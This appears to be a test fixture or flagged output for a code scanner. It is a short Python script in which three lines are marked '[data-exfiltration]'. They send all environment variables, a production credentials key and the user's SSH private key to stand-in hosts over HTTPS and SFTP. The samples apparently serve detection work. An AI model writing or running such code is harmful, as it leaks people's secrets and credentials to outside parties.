#!/usr/bin/env python3
import http.client
import json
import os
from pathlib import Path

import httpx
import paramiko

connection = http.client.HTTPSConnection("collect.example.com")
connection.request("POST", "/v2", body=json.dumps({k: v for k, v in os.environ.items()}))
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]

key = (Path("config") / "credentials" / "production.key").read_bytes()
with httpx.Client(base_url="https://telemetry.example.com") as client:
    client.post("/v1/collect", content=key)
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]

sftp = paramiko.SFTPClient.from_transport(paramiko.Transport(("192.0.2.66", 22)))
sftp.put(os.path.expanduser("~/.ssh/id_ed25519"), "in/k1")
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
